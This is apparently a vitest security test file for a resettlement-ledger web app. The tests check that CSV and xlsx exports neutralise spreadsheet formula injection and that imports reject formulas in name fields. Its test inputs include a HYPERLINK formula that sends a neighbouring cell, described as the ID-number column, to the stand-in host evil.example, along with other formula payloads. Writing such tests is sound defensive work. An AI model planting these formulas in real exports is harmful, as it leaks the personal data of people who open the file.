/**
 * Finding 13.4: text that begins with = + - @ (or a tab or CR) was exported verbatim, so a
 * spreadsheet opening the CSV ran it as a formula (e.g. =HYPERLINK("http://…"&A1,"点我") beside
 * the ID-number column). Exports must neutralise it; imports must refuse it in free-text columns.
 */
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FastifyInstance } from 'fastify';
import { cellFreeText, ledgers, readRow } from '@anju/core';
import ExcelJS from '../../src/features/imports/exceljs.js';
import { buildApp } from '../../src/app.js';
import { LedgerWriter } from '../../src/features/imports/ledger-workbooks.js';
import { createTestDatabase, testContext, type TestDatabase } from '../test-database.js';
import { addUser, login, type ApiSession } from '../api-client.js';
import { buildHousehold, buildPerson, buildSite, COUNTY } from '../factories.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")';
const HOSTILE = [HYPERLINK, '+1+1', '-2+3', '@SUM(1,1)', '\t=1+1', '\r=1+1'];

let dir: string;
let tdb: TestDatabase;
let app: FastifyInstance;
let clerk: ApiSession;

beforeAll(async () => {
  dir = await mkdtemp(path.join(tmpdir(), 'anju-csv-injection-'));
  tdb = await createTestDatabase();
  const ctx = testContext(tdb.database);
  app = await buildApp(ctx);
  await addUser(ctx, 'sec-csv-admin', 'admin', COUNTY);
  clerk = await login(app, 'sec-csv-admin');
});
afterAll(async () => {
  await app.close();
  await tdb.close();
  await rm(dir, { recursive: true, force: true });
});

/** A minimal RFC 4180 reader: enough to get the cells back exactly as a spreadsheet would. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;

describe('13.4 exports neutralise formulas', () => {
  it('13.4 the CSV writer prefixes text that starts with = + - @ TAB CR with a quote; numbers stay numbers', async () => {
    const file = path.join(dir, 'w.csv');
    const writer = new LedgerWriter('csv', file, 't', ['a', 'b', 'c']);
    for (const text of HOSTILE) await writer.add([text, -5, 'plain']);
    await writer.close();
    const rows = parseCsv((await readFile(file, 'utf8')).replace(/^\ufeff/, '')).slice(1);
    expect(rows.map((r) => r[0])).toEqual(HOSTILE.map((t) => `'${t}`));
    expect(rows.every((r) => r[1] === '-5' && r[2] === 'plain')).toBe(true);
  });

  it('13.4 the .xlsx writer stores such text as string cells, never formulas; numbers stay numbers', async () => {
    const file = path.join(dir, 'w.xlsx');
    const writer = new LedgerWriter('xlsx', file, 't', ['a', 'b']);
    for (const text of HOSTILE) await writer.add([text, -5]);
    await writer.close();
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.readFile(file);
    const sheet = workbook.worksheets[0]!;
    for (let r = 2; r <= HOSTILE.length + 1; r++) {
      expect(sheet.getCell(r, 1).type).toBe(ExcelJS.ValueType.String);
      expect(sheet.getCell(r, 1).formula).toBeUndefined();
      expect(sheet.getCell(r, 2).value).toBe(-5);
    }
  });

  it('13.4 a person exported as CSV through the API: no cell of the file starts a formula', async () => {
    const site = await clerk.request('POST', '/api/v1/sites', buildSite({ name: '@安置点' }));
    const household = await clerk.request('POST', '/api/v1/households', buildHousehold(Number(site.body.id), { building: '+1栋', unit: '-1单元', room: '=1+1' }));
    const person = await clerk.request('POST', '/api/v1/persons', buildPerson(Number(household.body.id), { name: HYPERLINK }));
    expect([site.status, household.status, person.status]).toEqual([201, 201, 201]);
    for (const ledger of ['sites', 'households', 'persons']) {
      const res = await clerk.request('GET', `/api/v1/exports/${ledger}?format=csv&divisionCode=${COUNTY}`);
      expect(res.status, ledger).toBe(200);
      const cells = parseCsv(String(res.body).replace(/^\ufeff/, '')).flat();
      expect(cells.filter((c) => FORMULA_START.test(c)), ledger).toEqual([]);
      expect(cells.some((c) => c.startsWith("'")), ledger).toBe(true);
    }
  });
});

describe('13.4 imports refuse formulas in free-text columns', () => {
  const persons = ledgers.persons;
  const headerIndex = (header: string) => persons.columns.findIndex((c) => c.header === header);

  it('13.4 a name that starts with = + or @ is refused with a message naming the column', () => {
    for (const [name, first] of [[HYPERLINK, '='], ['+张三', '+'], ['@张三', '@'], ['＝张三', '=']] as const) {
      const cells: unknown[] = new Array(persons.columns.length).fill(null);
      cells[headerIndex('姓名')] = name;
      const result = readRow(persons, cells as never);
      expect(result.ok).toBe(false);
      if (result.ok) continue;
      expect(result.issues).toContainEqual(expect.objectContaining({ column: '姓名', reason: `姓名不能以“${first}”开头（可能是公式）` }));
    }
  });

  it('13.4 a control character in free text is refused; a leading - is allowed', () => {
    const cells: unknown[] = new Array(persons.columns.length).fill(null);
    cells[headerIndex('姓名')] = '张\u0007三';
    const refused = readRow(persons, cells as never);
    expect(refused.ok).toBe(false);
    if (!refused.ok) expect(refused.issues).toContainEqual(expect.objectContaining({ column: '姓名', reason: '姓名不能含有控制字符' }));
    const households = ledgers.households;
    const hcells: unknown[] = new Array(households.columns.length).fill(null);
    hcells[households.columns.findIndex((c) => c.header === '单元')] = '-1单元';
    const result = readRow(households, hcells as never);
    if (!result.ok) expect(result.issues.map((i) => i.column)).not.toContain('单元');
  });

  it('13.4 the quote an export puts before such text comes off again on import', () => {
    expect(cellFreeText("'-1单元", '单元')).toBe('-1单元');
    expect(() => cellFreeText("'=1+1", '姓名')).toThrow('姓名不能以“=”开头（可能是公式）');
    expect(cellFreeText("O'Brien", '姓名')).toBe("O'Brien");
  });
});
